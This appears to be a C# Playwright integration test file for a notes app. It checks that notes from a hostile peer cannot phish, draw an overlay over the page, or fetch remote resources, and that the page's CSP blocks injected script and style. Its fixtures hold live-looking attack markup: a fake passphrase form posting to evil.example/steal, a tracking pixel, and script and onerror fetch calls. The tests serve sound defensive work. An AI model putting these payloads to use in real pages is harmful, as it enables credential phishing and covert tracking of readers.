using HermitSync.IntegrationTests.Stack;
using HermitSync.IntegrationTests.Sync;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace HermitSync.IntegrationTests.Browser;

/// <summary>
/// Notes a hostile peer could write, read in Chromium: nothing in them draws over the page,
/// asks for a passphrase, runs, or fetches anything, and the page's CSP is never violated.
/// </summary>
[Collection(SingleSiteCollection.Name)]
public sealed class HostileNotesInTheBrowserTests(StackFixture stack, BrowserSession browser) : IClassFixture<BrowserSession>
{
    private const string PhishingNote = """
        # Sync check

        <form action="https://evil.example/steal" method="post"><p>Your sync passphrase has expired. Re-enter it:</p><input type="password" name="passphrase"><button type="submit">Unlock</button></form>

        <div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999" class="offline" id="offline">Everything is fine</div>

        <style>body { display: none } .markdown { position: fixed }</style>

        ![read receipt](https://tracker.example/pixel.png)

        Plain words stay.
        """;

    private Uri Site => stack.NotesLink();

    [Fact]
    public async Task A_fake_form_an_overlay_a_style_sheet_and_a_remote_image_render_without_them()
    {
        using var web = stack.WebBrowserClient();
        var id = (await Sites.CreateAsync(web, "Sync check", PhishingNote)).Id;

        var page = await web.GetStringAsync($"/Notes/{id}");
        var rendered = page[page.IndexOf("<div class=\"markdown\">", StringComparison.Ordinal)..page.IndexOf("</article>", StringComparison.Ordinal)];
        foreach (var banned in new[] { "<form", "<input", "<button", "<style", "style=", "class=\"offline\"", "id=\"offline\"", "<img", "evil.example/steal" })
        {
            Assert.DoesNotContain(banned, rendered);
        }
        Assert.Contains("Plain words stay.", rendered);
        Assert.Contains("remote image not loaded: https://tracker.example/pixel.png", rendered);

        await browser.RunAsync("hostile-note", Site, async tab =>
        {
            await tab.GotoAsync($"/Notes/{id}");
            await Expect(tab.Locator(".markdown")).ToContainTextAsync("Plain words stay.");
            // The page's own forms (pin, notebook and tags) sit outside the rendered note; none comes from it.
            Assert.Equal(0, await tab.Locator(".markdown :is(form, input, button, textarea, select, style, img), body > style").CountAsync());
            Assert.False(await tab.EvaluateAsync<bool>("() => [...document.querySelectorAll('*')].some(e => getComputedStyle(e).position === 'fixed')"), "an element is position: fixed");
            await Expect(tab.Locator(".note-header h1")).ToBeVisibleAsync();
            // The layout's own banner, hidden, and no second one from the note.
            await Expect(tab.Locator("#offline")).ToHaveCountAsync(1);
            await Expect(tab.Locator("#offline")).ToBeHiddenAsync();
            var placeholder = tab.Locator(".markdown a", new() { HasText = "remote image not loaded" });
            await Expect(placeholder).ToHaveAttributeAsync("href", "https://tracker.example/pixel.png");
            await Expect(placeholder).ToHaveAttributeAsync("rel", "noopener noreferrer nofollow");
        });
    }

    [Fact]
    public async Task Reading_a_note_fetches_nothing_it_points_to()
    {
        using var counter = new HitCounter();
        var origin = counter.Address.ToString().TrimEnd('/');
        var authority = counter.Address.Authority;
        using var web = stack.WebBrowserClient();
        var attached = await Sites.AttachAsync(web, "dot.png", Attachments.AttachmentTests.Pixel);
        var id = (await Sites.CreateAsync(web, "Points outside", $"""
            ![x]({origin}/pixel.png) ![y](//{authority}/protocol-relative.png) [a link]({origin}/link)

            <img src="{origin}/raw.png" srcset="{origin}/srcset.png 2x" loading="eager">
            <picture><source srcset="{origin}/source.png"><img src="{origin}/picture.png"></picture>
            <video poster="{origin}/poster.png" src="{origin}/video.mp4" autoplay></video><audio src="{origin}/audio.mp3" autoplay></audio>
            <link rel="stylesheet" href="{origin}/style.css"><link rel="prefetch" href="{origin}/prefetch"><link rel="preload" as="image" href="{origin}/preload.png">
            <div style="background-image:url({origin}/background.png)">styled</div>
            <style>@import url({origin}/import.css); body {"{"} background: url({origin}/body.png) {"}"}</style>
            <iframe src="{origin}/iframe"></iframe><object data="{origin}/object"></object><embed src="{origin}/embed">
            <svg><image href="{origin}/svg.png"/></svg><input type="image" src="{origin}/input.png">
            <a href="{origin}/ping-target" ping="{origin}/ping">pinged</a>
            <meta http-equiv="refresh" content="0;url={origin}/refresh">
            <script>fetch('{origin}/script')</script><img src="nothing" onerror="fetch('{origin}/onerror')">

            ![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)
            {attached.Markdown}
            """)).Id;

        await browser.RunAsync("no-remote-fetch", Site, async tab =>
        {
            foreach (var path in new[] { $"/Notes/{id}", $"/Notes/Edit/{id}", "/" })
            {
                await tab.GotoAsync(path);
                await tab.WaitForLoadStateAsync(LoadState.NetworkIdle, new() { Timeout = 10_000 });
            }
            await tab.GotoAsync($"/Notes/{id}");
            await Expect(tab.Locator(".markdown img")).ToHaveCountAsync(1);
            await Expect(tab.Locator(".markdown img")).ToHaveAttributeAsync("src", attached.Link);
            Assert.True(await tab.Locator(".markdown img").EvaluateAsync<bool>("img => img.complete && img.naturalWidth === 1"), "the note's attached image did not show");
            // Anything a browser fetches lazily or late has had time to go out.
            await Task.Delay(TimeSpan.FromSeconds(2));
            Assert.True(counter.Paths.Count == 0, $"the browser fetched: {string.Join(", ", counter.Paths)}");

            // The counter does hear this browser when it goes there itself.
            await tab.GotoAsync($"{origin}/control");
            Assert.Contains("/control", counter.Paths);
        });
    }

    [Fact]
    public async Task The_csp_check_catches_a_violation()
    {
        await using var context = await browser.NewContextAsync(Site);
        var problems = new PageProblems(context);
        var tab = await context.NewPageAsync();
        await tab.GotoAsync("/");

        await tab.EvaluateAsync("""
            () => {
                document.body.insertAdjacentHTML('beforeend', '<p style="color: red">inline style</p>');
                const script = document.createElement('script');
                script.textContent = 'window.ran = true';
                document.body.append(script);
            }
            """);

        Assert.Equal("undefined", await tab.EvaluateAsync<string>("() => typeof window.ran"));
        var deadline = DateTime.UtcNow.AddSeconds(10);
        while (problems.Seen.Count < 2 && DateTime.UtcNow < deadline)
        {
            await Task.Delay(100);
        }
        Assert.Contains(problems.Seen, problem => problem.Contains("inline style"));
        Assert.Contains(problems.Seen, problem => problem.Contains("inline script"));
    }
}
